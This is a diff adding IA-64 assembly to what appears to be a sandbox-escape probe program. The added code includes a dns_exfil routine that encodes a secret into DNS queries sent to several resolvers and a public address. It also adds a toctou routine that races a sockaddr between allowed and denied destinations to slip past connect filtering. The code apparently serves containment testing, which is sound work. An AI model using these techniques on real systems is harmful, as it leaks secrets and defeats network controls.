+(p6)    br.cond.sptk .Lde_copy
+        ;;
+        movl r16 = s_exfil_suffix
+        ;;
+.Lde_suffix:
+        ld1 r18 = [r16], 1
+        ;;
+        st1 [r14] = r18, 1
+        cmp.ne p6, p0 = 0, r18
+        ;;
+(p6)    br.cond.sptk .Lde_suffix
+        ;;
+        movl out0 = qbuf
+        movl out1 = namebuf
+        CALL dns_query
+        movl r14 = qlen
+        ;;
+        st8 [r14] = r8
+        movl out0 = s_dns_addr
+        mov out1 = 53
+        CALL ask_all
+        movl out0 = s_gateway
+        mov out1 = 53
+        CALL ask_all
+        movl out0 = s_lo4
+        mov out1 = 53
+        CALL ask_all
+        movl out0 = s_public1
+        mov out1 = 53
+        CALL ask_all
+        movl out0 = s_dns_addr
+        mov out1 = in1
+        CALL ask_all
+        movl out0 = s_gateway
+        mov out1 = in1
+        CALL ask_all
+        mov loc2 = in2
+        ;;
+.Lde_extra:
+        ld8 loc3 = [loc2], 8
+        ;;
+        cmp.eq p6, p0 = 0, loc3
+        ;;
+(p6)    br.cond.dpnt .Lde_resolver
+        mov out0 = loc3
+        mov out1 = 53
+        CALL ask_all
+        mov out0 = loc3
+        mov out1 = in1
+        CALL ask_all
+        br.cond.sptk .Lde_extra
+        ;;
+.Lde_resolver:
+        CALL nameserver
+        cmp.eq p6, p0 = 0, r8
+        mov out0 = r8
+        mov out1 = 53
+        ;;
+(p6)    br.cond.dpnt .Lde_none
+        CALL ask_all
+        PUTS "resolver: asked /etc/resolv.conf's nameserver\n"
+        br.cond.sptk .Lde_done
+        ;;
+.Lde_none:                              // glibc's resolver then asks 127.0.0.1
+        movl out0 = s_lo4
+        mov out1 = 53
+        CALL ask_all
+        PUTS "resolver: no nameserver in /etc/resolv.conf, asked 127.0.0.1 as the C library does\n"
+.Lde_done:
+        mov r8 = 0
+        LEAVE
+        .endp dns_exfil
+
+// toctou(denied, denied_port, allowed, allowed_port) -> r8: 400 connects through a sockaddr
+// that a second thread keeps switching between the allowed and the denied destination.
+// The thread is a clone(CLONE_VM | CLONE_THREAD | ...) with its own stack: IA-64 Linux's
+// clone starts the memory stack (r12) and the register backing store (ar.bspstore) both at the
+// stack address, one growing down and the other up, so the address is the middle of a 64 KiB
+// mapping. The thread's code keeps its state in a fresh register frame (allocated before it
+// reads anything) and in memory.
+        .proc toctou
+toctou:
+        ENTER 4, 10, 6
+        mov out0 = in0
+        mov out1 = in1
+        movl out2 = race_denied
+        CALL sockaddr_for
+        mov loc2 = r9                   // the sockaddr's length
+        mov out0 = in2
+        mov out1 = in3
+        movl out2 = race_allowed
+        CALL sockaddr_for
+        movl out0 = race_addr
+        movl out1 = race_allowed
+        CALL copy32
+        movl r14 = race_allowed
+        ;;
+        ld2 loc3 = [r14]                // the family
+        mov out0 = 0
+        movl out1 = 65536
+        mov out2 = 3                    // PROT_READ | PROT_WRITE
+        mov out3 = 0x22                 // MAP_PRIVATE | MAP_ANONYMOUS
+        mov out4 = -1
+        mov out5 = 0
+        SYSCALL SYS_mmap
+        cmp.ne p6, p0 = 0, r10
+        mov loc4 = r8
+        ;;
+(p6)    br.cond.dpnt .Lto_fail
+        movl out0 = CLONE_THREAD_FLAGS
+        movl r14 = 32768
+        ;;
+        add out1 = loc4, r14            // the thread's stack and backing store
+        mov out2 = 0
+        mov out3 = 0
+        mov out4 = 0
+        SYSCALL SYS_clone
+        cmp.ne p6, p0 = 0, r10
+        cmp.eq p7, p0 = 0, r8
+        mov loc4 = r8
+        ;;
+(p6)    br.cond.dpnt .Lto_fail
+(p7)    br.call.sptk.many b0 = flipper  // the new thread: does not return
+        ;;
+        mov loc5 = 0                    // connected
+        mov loc6 = 0                    // unreachable
+        mov loc7 = 0                    // other
+        mov loc8 = 400
+        ;;
+.Lto_loop:
+        mov out0 = loc3
+        mov out1 = SOCK_STREAM
+        mov out2 = 0
+        SYSCALL SYS_socket
+        cmp.ne p6, p0 = 0, r10
+        mov loc9 = r8
+        ;;
+(p6)    mov loc9 = -1
+        ;;
+        mov out0 = loc9
+        movl out1 = race_addr
+        mov out2 = loc2
+        SYSCALL SYS_connect
+        cmp.eq p6, p7 = 0, r10
+        ;;
+(p7)    cmp.eq.unc p8, p9 = ENETUNREACH, r8
+        ;;
+(p6)    adds loc5 = 1, loc5
+(p8)    adds loc6 = 1, loc6
+(p9)    adds loc7 = 1, loc7
+        mov out0 = loc9
+        SYSCALL SYS_close
+        SYSCALL SYS_sched_yield
+        adds loc8 = -1, loc8
+        ;;
+        cmp.ne p6, p0 = 0, loc8
+        ;;
+(p6)    br.cond.sptk .Lto_loop
+        ;;
+        movl r14 = race_done
+        mov r16 = 1
+        ;;
+        st8 [r14] = r16
+        ;;
+.Lto_join:                              // until the thread has left
+        movl r14 = flipper_done
+        ;;
+        ld8 r14 = [r14]
+        ;;
+        cmp.ne p6, p0 = 0, r14
+        ;;
+(p6)    br.cond.dpnt .Lto_report
+        SYSCALL SYS_sched_yield
+        br.cond.sptk .Lto_join
+        ;;
+.Lto_report:
+        PUTS "toctou: "
+        PUTN loc5
+        PUTS " connected, "
+        PUTN loc6
+        PUTS " unreachable, "
+        PUTN loc7
+        PUTS " other\n"
+        mov r8 = 0
+        LEAVE
+.Lto_fail:
+        PUTS "toctou: no second thread: "
+        PUTE loc4
+        PUTC 10
+        mov r8 = 1
+        LEAVE
+        .endp toctou
+
+// copy32(dst, src): 32 bytes, as four doublewords
+        .proc copy32
+copy32:
+        alloc r2 = ar.pfs, 2, 0, 0, 0
+        mov r14 = in1
+        mov r16 = in0
+        ;;
+        ld8 r17 = [r14], 8
+        ;;
+        ld8 r18 = [r14], 8
+        st8 [r16] = r17, 8
+        ;;
+        ld8 r17 = [r14], 8
+        st8 [r16] = r18, 8
+        ;;
+        ld8 r18 = [r14]
+        st8 [r16] = r17, 8
+        ;;
+        st8 [r16] = r18
+        br.ret.sptk.many b0
+        ;;
+        .endp copy32
+
+// flipper(): the second thread of toctou. Until race_done, race_addr is the denied
+// destination for a while, then the allowed one for a while, with a sched_yield after each
+// (the threads take turns, so connects meet both). Sets flipper_done and exits the thread.
+        .proc flipper
+flipper:
+        alloc loc0 = ar.pfs, 0, 5, 2, 0
+        movl loc1 = race_addr
+        movl loc2 = race_denied
+        movl loc3 = race_allowed
+        movl loc4 = race_done
+        ;;
+.Lfl_round:
+        ld8 r14 = [loc4]
+        ;;
+        cmp.ne p6, p0 = 0, r14
+        ;;
+(p6)    br.cond.dpnt .Lfl_exit
+        mov out0 = loc1
+        mov out1 = loc2
+        CALL copy32
+        CALL spin
+        SYSCALL SYS_sched_yield
+        mov out0 = loc1
+        mov out1 = loc3
+        CALL copy32
+        CALL spin
+        SYSCALL SYS_sched_yield
+        br.cond.sptk .Lfl_round
+        ;;
+.Lfl_exit:
+        movl r14 = flipper_done
+        mov r16 = 1
+        ;;
+        st8 [r14] = r16
+        mov out0 = 0
+        SYSCALL SYS_exit                // this thread only
+        break.m 0
+        ;;
+        .endp flipper
+
+// spin(): 2000 turns of an empty loop
+        .proc spin
+spin:
+        alloc r2 = ar.pfs, 0, 0, 0, 0
+        mov r14 = 2000
+        ;;
+.Lsp_loop:
+        adds r14 = -1, r14
+        ;;
+        cmp.ne p6, p0 = 0, r14
+        ;;
+(p6)    br.cond.sptk .Lsp_loop
+        ;;
+        br.ret.sptk.many b0
+        ;;
+        .endp spin
+
 // ---- main -------------------------------------------------------------------------------------
 
         .global _start
@@ -1541,6 +2731,10 @@ _start:
         ROLE s_a_root, 2, .Lroot
         ROLE s_host_escape, 2, .Lhost_escape
         ROLE s_outlive, 1, .Loutlive
+        ROLE s_net_reach, 3, .Lnet_reach
+        ROLE s_net_bind, 2, .Lnet_bind
+        ROLE s_dns_exfil, 3, .Ldns_exfil
+        ROLE s_toctou, 5, .Ltoctou
         movl r14 = outfd
         mov r16 = 2
         ;;
@@ -1923,6 +3117,52 @@ _start:
         CALL do_exit
 .Loutlive:
         CALL outlive
+        mov out0 = r8
+        CALL do_exit
+
+.Lnet_reach:                            // net-reach PORT SECRET ADDR...
+        ARGV out0, 2
+        CALL parse_u64
+        mov loc5 = r8
+        ARGV loc6, 3
+        mov out0 = loc5
+        mov out1 = loc6
+        adds out2 = 32, loc3            // argv + 4
+        CALL net_reach
+        mov out0 = r8
+        CALL do_exit
+.Lnet_bind:                             // net-bind PORT
+        ARGV out0, 2
+        CALL parse_u64
+        mov out0 = r8
+        CALL net_bind
+        mov out0 = r8
+        CALL do_exit
+.Ldns_exfil:                            // dns-exfil SECRET PORT ADDR...
+        ARGV out0, 3
+        CALL parse_u64
+        mov loc5 = r8
+        ARGV loc6, 2
+        mov out0 = loc6
+        mov out1 = loc5
+        adds out2 = 32, loc3
+        CALL dns_exfil
+        mov out0 = r8
+        CALL do_exit
+.Ltoctou:                               // toctou DENIED-ADDR DENIED-PORT ALLOWED-ADDR ALLOWED-PORT
+        ARGV out0, 3
+        CALL parse_u64
+        mov loc5 = r8
+        ARGV out0, 5
+        CALL parse_u64
+        mov loc6 = r8
+        ARGV loc7, 2
+        ARGV loc8, 4
+        mov out0 = loc7
+        mov out1 = loc5
+        mov out2 = loc8
+        mov out3 = loc6
+        CALL toctou
         mov out0 = r8
         CALL do_exit
 
